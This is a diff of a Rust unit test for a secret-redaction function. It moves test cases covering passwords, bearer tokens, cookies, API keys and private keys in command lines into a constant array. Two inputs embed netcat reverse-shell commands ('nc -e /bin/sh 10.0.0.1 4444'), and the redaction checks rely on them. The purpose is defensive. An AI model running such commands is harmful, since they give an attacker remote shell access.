@@ -11,116 +11,119 @@ fn redacted(args: &[&str]) -> Vec<String> {
     list_of.iter().map(ToString::to_string).collect()
 }
 
+/// Arguments, and how they are shown.
+const CASES: &[(&[&str], &[&str])] = &[
+    (
+        &["x", "--password=a b", "y"],
+        &["x", "--password=[REDACTED]", "y"],
+    ),
+    (
+        &["x", "--password", "a b", "y"],
+        &["x", "--password", "[REDACTED]", "y"],
+    ),
+    (
+        &["env", "PGPASSWORD=x", "psql"],
+        &["env", "PGPASSWORD=[REDACTED]", "psql"],
+    ),
+    (
+        &["mysql", "-uroot", "-psecret", "shop"],
+        &["mysql", "-uroot", "-p[REDACTED]", "shop"],
+    ),
+    (&["mysql", "-p", "shop"], &["mysql", "-p", "shop"]),
+    (
+        &["sh", "-c", "mysqldump -u root -ps3cret shop | gzip"],
+        &["sh", "-c", "mysqldump -u root -p[REDACTED] shop | gzip"],
+    ),
+    (
+        &["curl", "-H", "Authorization: Bearer abc", "http://h/"],
+        &[
+            "curl",
+            "-H",
+            "Authorization: Bearer [REDACTED]",
+            "http://h/",
+        ],
+    ),
+    (
+        &["curl", "https://bob:hunter2@host/x"],
+        &["curl", "https://bob:[REDACTED]@host/x"],
+    ),
+    (
+        &["curl", "-u", "bob:hunter2", "h"],
+        &["curl", "-u", "bob:[REDACTED]", "h"],
+    ),
+    (
+        &["sshpass", "-p", "x", "ssh", "h"],
+        &["sshpass", "-p", "[REDACTED]", "ssh", "h"],
+    ),
+    (
+        &["redis-cli", "-a", "x", "get"],
+        &["redis-cli", "-a", "[REDACTED]", "get"],
+    ),
+    (&["aws", "AKIAIOSFODNN7EXAMPLE"], &["aws", "[REDACTED]"]),
+    (
+        &["sh", "-c", "export API_KEY='abc'; id"],
+        &["sh", "-c", "export API_KEY='[REDACTED]'; id"],
+    ),
+    (
+        &["sh", "-c", "PGPASSWORD='two words' psql --token \"a b\" x"],
+        &[
+            "sh",
+            "-c",
+            "PGPASSWORD='[REDACTED]' psql --token \"[REDACTED]\" x",
+        ],
+    ),
+    (
+        &["sh", "-c", "password=x; nc -e /bin/sh 10.0.0.1 4444"],
+        &[
+            "sh",
+            "-c",
+            "password=[REDACTED]; nc -e /bin/sh 10.0.0.1 4444",
+        ],
+    ),
+    (
+        &["curl", "-H", "Cookie: a=b; c=d", "-H", "X-Api-Key: k", "h"],
+        &[
+            "curl",
+            "-H",
+            "Cookie: [REDACTED]",
+            "-H",
+            "X-Api-Key: [REDACTED]",
+            "h",
+        ],
+    ),
+    (
+        &["sh", "-c", "echo cookie: authorization: ; nc -e /bin/sh h"],
+        &["sh", "-c", "echo cookie: authorization: ; nc -e /bin/sh h"],
+    ),
+    (
+        &["app", "{\"token\": \"abc\"}"],
+        &["app", "{\"token\": \"[REDACTED]\"}"],
+    ),
+    (
+        &["x", "user=1&password=2&z=3"],
+        &["x", "user=1&password=[REDACTED]&z=3"],
+    ),
+    (
+        &[
+            "sh",
+            "-c",
+            "echo '-----BEGIN EC PRIVATE KEY-----\nMHQCAQ\n-----END' > k",
+        ],
+        &[
+            "sh",
+            "-c",
+            "echo '-----BEGIN EC PRIVATE KEY-----[REDACTED]-----END' > k",
+        ],
+    ),
+    (
+        &["git", "clone", "ghp_0123456789abcdefghijABCDEFGHIJ"],
+        &["git", "clone", "[REDACTED]"],
+    ),
+];
+
 #[test]
 fn secrets_go_and_their_surroundings_stay() {
-    for (args, expected) in [
-        (
-            &["x", "--password=a b", "y"][..],
-            &["x", "--password=[REDACTED]", "y"][..],
-        ),
-        (
-            &["x", "--password", "a b", "y"],
-            &["x", "--password", "[REDACTED]", "y"],
-        ),
-        (
-            &["env", "PGPASSWORD=x", "psql"],
-            &["env", "PGPASSWORD=[REDACTED]", "psql"],
-        ),
-        (
-            &["mysql", "-uroot", "-psecret", "shop"],
-            &["mysql", "-uroot", "-p[REDACTED]", "shop"],
-        ),
-        (&["mysql", "-p", "shop"], &["mysql", "-p", "shop"]),
-        (
-            &["sh", "-c", "mysqldump -u root -ps3cret shop | gzip"],
-            &["sh", "-c", "mysqldump -u root -p[REDACTED] shop | gzip"],
-        ),
-        (
-            &["curl", "-H", "Authorization: Bearer abc", "http://h/"],
-            &[
-                "curl",
-                "-H",
-                "Authorization: Bearer [REDACTED]",
-                "http://h/",
-            ],
-        ),
-        (
-            &["curl", "https://bob:hunter2@host/x"],
-            &["curl", "https://bob:[REDACTED]@host/x"],
-        ),
-        (
-            &["curl", "-u", "bob:hunter2", "h"],
-            &["curl", "-u", "bob:[REDACTED]", "h"],
-        ),
-        (
-            &["sshpass", "-p", "x", "ssh", "h"],
-            &["sshpass", "-p", "[REDACTED]", "ssh", "h"],
-        ),
-        (
-            &["redis-cli", "-a", "x", "get"],
-            &["redis-cli", "-a", "[REDACTED]", "get"],
-        ),
-        (&["aws", "AKIAIOSFODNN7EXAMPLE"], &["aws", "[REDACTED]"]),
-        (
-            &["sh", "-c", "export API_KEY='abc'; id"],
-            &["sh", "-c", "export API_KEY='[REDACTED]'; id"],
-        ),
-        (
-            &["sh", "-c", "PGPASSWORD='two words' psql --token \"a b\" x"],
-            &[
-                "sh",
-                "-c",
-                "PGPASSWORD='[REDACTED]' psql --token \"[REDACTED]\" x",
-            ],
-        ),
-        (
-            &["sh", "-c", "password=x; nc -e /bin/sh 10.0.0.1 4444"],
-            &[
-                "sh",
-                "-c",
-                "password=[REDACTED]; nc -e /bin/sh 10.0.0.1 4444",
-            ],
-        ),
-        (
-            &["curl", "-H", "Cookie: a=b; c=d", "-H", "X-Api-Key: k", "h"],
-            &[
-                "curl",
-                "-H",
-                "Cookie: [REDACTED]",
-                "-H",
-                "X-Api-Key: [REDACTED]",
-                "h",
-            ],
-        ),
-        (
-            &["sh", "-c", "echo cookie: authorization: ; nc -e /bin/sh h"],
-            &["sh", "-c", "echo cookie: authorization: ; nc -e /bin/sh h"],
-        ),
-        (
-            &["app", "{\"token\": \"abc\"}"],
-            &["app", "{\"token\": \"[REDACTED]\"}"],
-        ),
-        (
-            &["x", "user=1&password=2&z=3"],
-            &["x", "user=1&password=[REDACTED]&z=3"],
-        ),
-        (
-            &[
-                "sh",
-                "-c",
-                "echo '-----BEGIN EC PRIVATE KEY-----\nMHQCAQ\n-----END' > k",
-            ],
-            &[
-                "sh",
-                "-c",
-                "echo '-----BEGIN EC PRIVATE KEY-----[REDACTED]-----END' > k",
-            ],
-        ),
-        (
-            &["git", "clone", "ghp_0123456789abcdefghijABCDEFGHIJ"],
-            &["git", "clone", "[REDACTED]"],
-        ),
-    ] {
+    for &(args, expected) in CASES {
         assert_eq!(redacted(args), expected, "{args:?}");
     }
 }
